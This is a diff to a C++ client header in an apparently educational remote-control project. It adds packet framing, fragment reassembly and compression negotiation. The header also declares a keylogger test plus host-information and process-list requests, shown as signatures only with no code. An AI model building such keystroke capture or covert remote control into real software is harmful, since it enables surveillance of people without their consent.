@@ -3,9 +3,12 @@
 
 #include "../server/LPTF_socket.hpp"
 #include "../protocole/LPTF_Protocol.hpp"
+#include "../protocole/LPTF_Framing.hpp"
+#include "../protocole/LPTF_Fragment.hpp"
 #include "RemoteControl.hpp"
 #include <string>
 #include <memory>
+#include <vector>
 
 class Client {
 private:
@@ -14,6 +17,14 @@ private:
     int server_port_;
     bool is_connected_;
     std::unique_ptr<RemoteControl> remote_control_;
+    LPTF::FrameReassembler reassembler_;
+    std::vector<uint8_t> send_buffer_; // Réutilisés d'un paquet à l'autre
+    std::vector<struct iovec> send_iov_;
+    std::vector<uint8_t> compressed_buffer_;
+    size_t compression_threshold_; // 0 tant que la compression n'est pas négociée
+    LPTF::FragmentReassembler fragments_; // Messages fragmentés reçus du serveur
+    std::vector<uint8_t> fragment_buffer_;
+    uint32_t next_stream_id_;
 
 public:
     Client();
@@ -28,15 +39,23 @@ public:
     bool connect_to_server();
     bool send_message(const std::string& message);
     bool receive_message(std::string& message);
+    bool send_packet(const LPTF::LPTF_Packet& packet);
+    bool receive_packet(LPTF::LPTF_Packet& packet);
+    // CAPABILITY_EXCHANGE : true si le serveur accepte les trames compressées
+    bool negotiate_compression();
+    // HELLO attendu jusqu'à son ACK, puis négociation de la compression (facultative)
+    bool open_session();
     void disconnect();
     
     const std::string& get_server_ip() const;
     int get_server_port() const;
     bool get_is_connected() const;
+    size_t get_compression_threshold() const;
     
     void set_server_info(const std::string& ip, int port);
     
     void run_interactive();
+    void run_chat();
     void run_remote_control_demo();
     void test_keylogger();
     
@@ -46,6 +65,7 @@ private:
     void copy_from(const Client& other);
     void move_from(Client&& other) noexcept;
     void reset();
+    void print_received_packets();
     
     void process_host_info_request();
     void process_process_list_request();